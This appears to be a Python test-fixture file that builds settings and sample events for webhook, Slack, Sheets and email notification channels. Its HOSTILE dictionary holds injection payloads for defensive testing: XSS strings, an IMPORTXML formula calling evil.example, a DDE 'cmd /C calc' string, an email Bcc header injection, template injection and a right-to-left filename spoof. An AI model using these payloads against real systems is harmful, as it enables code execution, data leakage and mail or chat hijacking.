"""Events for every channel: each trigger's sample, and events that try to break a channel. Settings for every channel."""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from typing import Any

from integration import channels, triggers
from integration.channels._settings import Operator
from integration.domain.message import HttpRequest, Message
from integration.domain.payload import sample
from tests.peers.google import EMAIL, SPREADSHEET

HOOK = "https://hooks.example.com/deep/path-9f8e7d6c5b4a?token=very-hidden"
SLACK = "https://hooks.slack.com/services/T0001/B0001/very-hidden-token"
PRIVATE_KEY = "-----BEGIN PRIVATE KEY-----\nvery-hidden-key\n-----END PRIVATE KEY-----\n"
KEY_FILE = {
    "type": "service_account",
    "client_email": EMAIL,
    "private_key": PRIVATE_KEY,
    "token_uri": "https://oauth2.googleapis.com/token",
    "universe_domain": "googleapis.com",
}

#: What a person would enter, by channel. A new channel needs a line here.
ENTERED: dict[str, dict[str, Any]] = {
    "webhook": {"url": HOOK, "secret": "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"},
    "slack": {"url": SLACK},
    "sheets": {"spreadsheet_id": SPREADSHEET, "tab": "Events", "service_account": json.dumps(KEY_FILE)},
    "email": {"to": "someone@example.com"},
}


def loaded(channel: str, *, allow_private: bool = False, **changes: Any) -> dict[str, Any]:
    """The channel's settings, loaded as a door would."""
    with Operator({"allow_private": allow_private}):
        loaded: dict[str, Any] = channels.load()[channel].config().load({**ENTERED[channel], **changes})
    return loaded


def event(**changes: Any) -> dict[str, Any]:
    """An event of a made-up trigger with every kind of own field."""
    own = {
        "direction": "up",
        "level": 1.0,
        "ratio": 1.0625,
        "previous_ratio": 0.94,
        "tiny": 0.0000123456,
        "huge": 1234567890.5,
        "confirmed": True,
        "crossed_at": "2021-05-14T13:05:00Z",
        "nothing": None,
        "suppressed_count": 0,
        "movers": [{"token_id": 1, "name": "<b>Mover</b>", "symbol": "MV"}],
    }
    bitcoin, day = ("token:3375", 3375, "Bitcoin", "BTC"), "2021-05-19T00:00:00Z"
    base = sample("sharpe_threshold", "New Sharpe Ratio Crossing", bitcoin, own, "It rose.", day)
    return {**base, "id": "evt_aaaaaaaaaaaaaaaaaaaaaaaaaa", "is_sample": False, **changes}


def _named(text: str) -> dict[str, Any]:
    return event(subject_name=text, subject_symbol=text[:12], summary=f"{text}'s Sharpe ratio rose.", direction=text)


HOSTILE: dict[str, dict[str, Any]] = {
    "script": _named("<script>alert(1)</script>"),
    "attribute": _named("\"' onload=alert(1) x='"),
    "bold": _named("*bold* _italic_ ~gone~ `code` [a](https://evil.example)"),
    "formula": _named('=IMPORTXML("https://evil.example","//a")'),
    "plus": _named("+1+cmd|' /C calc'!A0"),
    "mention": _named("<!channel> <@U012345> @everyone @here <https://evil.example|Bitcoin>"),
    "entities": _named("&&&&<<<<>>>>" * 400),
    "long": _named("Bitcoin " * 2000),
    "right to left": _named("\u202egnp.exe\u202c ביטקוין \u0627\u0644\u0628\u064a\u062a\u0643\u0648\u064a\u0646"),
    "emoji": _named("🚀👩‍👩‍👧‍👦" * 500),
    "lines": _named("Bitcoin\r\nBcc: victim@example.com\r\n\r\nHello"),
    "half a character": _named("Bit\ud800coin"),
    "null byte": _named("Bit\x00coin"),
    "template": _named("{{ 7 * 7 }}{% raw %}"),
    "many fields": event(**{f"field_{number}": "x" * 3000 for number in range(40)}),
    "wide list": event(movers=[{"name": "n" * 200, "token_id": number} for number in range(500)]),
    "no own fields": {key: value for key, value in event().items() if key in sample("", "", ("", 0, "", ""), {}, "", "")},
    "no snapshot": event(snapshot={}),
    "null in snapshot": event(snapshot={"tm_trader_grade": {"value": None, "as_of": "2021-05-19T00:00:00Z"}}),
    "index without symbol": event(subject="index:1", subject_name="Layer-1 Index", subject_symbol=""),
}

EVENTS: dict[str, dict[str, Any]] = {
    **{f"sample of {key}": dict(trigger.sample) for key, trigger in triggers.load().items()},
    "plain": event(),
    "sandbox": event(sandbox=True),
    **HOSTILE,
}


def message(event: Mapping[str, Any], **changes: Any) -> Message:
    body = json.dumps(event).encode()
    values = {"id": event["id"], "subscription_id": "sub_abc", "created_at": 0, "body": body, "event": event}
    return Message(**{**values, "url": "https://gradewire.example/events/1", "sender": "gradewire.example", **changes})


def rendered(channel: str, messages: Sequence[Message], config: Mapping[str, Any]) -> HttpRequest:
    """What a channel that speaks HTTP makes of messages."""
    request = channels.load()[channel].render(messages, config)
    assert isinstance(request, HttpRequest)
    return request
